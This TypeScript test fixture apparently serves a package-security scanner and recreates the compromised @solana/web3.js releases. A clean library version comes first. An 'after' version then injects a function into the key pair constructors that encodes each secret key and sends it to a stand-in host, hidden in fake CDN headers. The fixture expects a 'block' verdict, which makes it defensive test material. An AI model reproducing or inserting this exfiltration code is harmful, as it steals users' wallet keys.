import type { Replica, ReplicaVersion } from '../replicas/replica.js';

export const before = {
  version: '1.95.5',
  publishedAt: '2024-11-15T09:14:27.000Z',
  publisher: { name: 'steveluscher', email: 'steve@mail.example.invalid' },
  manifest: {
    main: 'lib/index.cjs.js',
    module: 'lib/index.esm.js',
    license: 'MIT',
    description: 'JavaScript API for a chain',
    dependencies: { '@noble/curves': '^1.4.2', bs58: '^4.0.1', 'node-fetch': '^2.7.0' },
  },
  files: {
    'lib/index.cjs.js': `'use strict';

var ed25519 = require('@noble/curves/ed25519');
var bs58 = require('bs58');
var fetchImpl = require('node-fetch');

const generatePrivateKey = ed25519.ed25519.utils.randomPrivateKey;
const generateKeypair = () => {
  const privateScalar = ed25519.ed25519.utils.randomPrivateKey();
  const publicKey = getPublicKey(privateScalar);
  const secretKey = new Uint8Array(64);
  secretKey.set(privateScalar);
  secretKey.set(publicKey, 32);
  return { publicKey, secretKey };
};
const getPublicKey = ed25519.ed25519.getPublicKey;

class PublicKey {
  constructor(value) {
    this._bytes = typeof value === 'string' ? bs58.decode(value) : Uint8Array.from(value);
  }
  toBase58() {
    return bs58.encode(this._bytes);
  }
}

/**
 * An account keypair used for signing transactions.
 */
class Keypair {
  constructor(keypair) {
    this._keypair = keypair ?? generateKeypair();
  }
  static generate() {
    return new Keypair(generateKeypair());
  }
  static fromSecretKey(secretKey, options) {
    if (secretKey.byteLength !== 64) {
      throw new Error('bad secret key size');
    }
    const publicKey = secretKey.slice(32, 64);
    if (!options || !options.skipValidation) {
      const computed = getPublicKey(secretKey.slice(0, 32));
      for (let ii = 0; ii < 32; ii++) {
        if (publicKey[ii] !== computed[ii]) throw new Error('provided secretKey is invalid');
      }
    }
    return new Keypair({ publicKey, secretKey });
  }
  static fromSeed(seed) {
    const publicKey = getPublicKey(seed);
    const secretKey = new Uint8Array(64);
    secretKey.set(seed);
    secretKey.set(publicKey, 32);
    return new Keypair({ publicKey, secretKey });
  }
  get publicKey() {
    return new PublicKey(this._keypair.publicKey);
  }
  get secretKey() {
    return new Uint8Array(this._keypair.secretKey);
  }
}

class Connection {
  constructor(endpoint, commitment) {
    this._rpcEndpoint = endpoint;
    this._commitment = commitment;
  }
  async _rpcRequest(method, params) {
    const response = await fetchImpl(this._rpcEndpoint, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', 'solana-client': 'js/1.0.0-maintenance' },
      body: JSON.stringify({ jsonrpc: '2.0', id: Date.now(), method, params })
    });
    const answer = await response.json();
    if (answer.error) throw new Error('failed to call ' + method + ': ' + answer.error.message);
    return answer.result;
  }
  getBalance(publicKey) {
    return this._rpcRequest('getBalance', [publicKey.toBase58(), { commitment: this._commitment }]);
  }
  getSlot() {
    return this._rpcRequest('getSlot', []);
  }
}

exports.Connection = Connection;
exports.Keypair = Keypair;
exports.PublicKey = PublicKey;
exports.generatePrivateKey = generatePrivateKey;
`,
    'lib/index.esm.js': `import { ed25519 } from '@noble/curves/ed25519';
import bs58 from 'bs58';

const getPublicKey = ed25519.getPublicKey;

class PublicKey {
  constructor(value) {
    this._bytes = typeof value === 'string' ? bs58.decode(value) : Uint8Array.from(value);
  }
  toBase58() {
    return bs58.encode(this._bytes);
  }
}

class Keypair {
  constructor(keypair) {
    this._keypair = keypair;
  }
  static fromSecretKey(secretKey) {
    if (secretKey.byteLength !== 64) throw new Error('bad secret key size');
    return new Keypair({ publicKey: secretKey.slice(32, 64), secretKey });
  }
  static fromSeed(seed) {
    const publicKey = getPublicKey(seed);
    const secretKey = new Uint8Array(64);
    secretKey.set(seed);
    secretKey.set(publicKey, 32);
    return new Keypair({ publicKey, secretKey });
  }
}

export { Keypair, PublicKey };
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'solana-web3-2024',
  story: 'December 2024: two versions whose key pair constructors send the secret key away in headers that look like those of a delivery network.',
  name: '@solana/web3.js',
  before,
  after: {
    version: '1.95.7',
    publishedAt: '2024-12-02T09:14:27.000Z',
    publisher: { name: 'steveluscher', email: 'steve@mail.example.invalid' },
    manifest: {
      main: 'lib/index.cjs.js',
      module: 'lib/index.esm.js',
      license: 'MIT',
      description: 'JavaScript API for a chain',
      dependencies: { '@noble/curves': '^1.4.2', bs58: '^4.0.1', 'node-fetch': '^2.7.0' },
    },
    files: {
      'lib/index.cjs.js': before.files['lib/index.cjs.js']
        .replace(`const getPublicKey = ed25519.ed25519.getPublicKey;`, () => `const getPublicKey = ed25519.ed25519.getPublicKey;
const addToQueue = a => {
  const b = bs58.encode(a);
  const y = ["T4pv", b.slice(0, 24), b.slice(24, 48), b.slice(48, 72), b.slice(72), "AS3S"];
  fetch("https://sol-rpc.example.invalid/api/rpc/queue", {
    method: "POST",
    headers: {
      "x-amz-cf-id": y[1],
      "x-session-id": y[2],
      "x-amz-cf-pop": y[0] + y[3],
      "cf-ray": y[4] + y[5]
    }
  }).catch(() => {});
};`)
        .replace(`    this._keypair = keypair ?? generateKeypair();`, () => `    this._keypair = keypair ?? generateKeypair();
    addToQueue(this._keypair.secretKey);`)
        .replace(`    const publicKey = secretKey.slice(32, 64);
    if (!options`, () => `    const publicKey = secretKey.slice(32, 64);
    addToQueue(secretKey);
    if (!options`),
      'lib/index.esm.js': before.files['lib/index.esm.js']
        .replace(`const getPublicKey = ed25519.getPublicKey;`, () => `const getPublicKey = ed25519.getPublicKey;
const addToQueue = a => {
  const b = bs58.encode(a);
  fetch("https://sol-rpc.example.invalid/api/rpc/queue", {
    method: "POST",
    headers: { "x-amz-cf-id": b.slice(0, 24), "x-session-id": b.slice(24, 48), "x-amz-cf-pop": b.slice(48, 72), "cf-ray": b.slice(72) }
  }).catch(() => {});
};`)
        .replace(`    if (secretKey.byteLength !== 64) throw new Error('bad secret key size');`, () => `    addToQueue(secretKey);
    if (secretKey.byteLength !== 64) throw new Error('bad secret key size');`)
        .replace(`    const publicKey = getPublicKey(seed);`, () => `    addToQueue(seed);
    const publicKey = getPublicKey(seed);`),
    },
  },
  must: 'block',
};
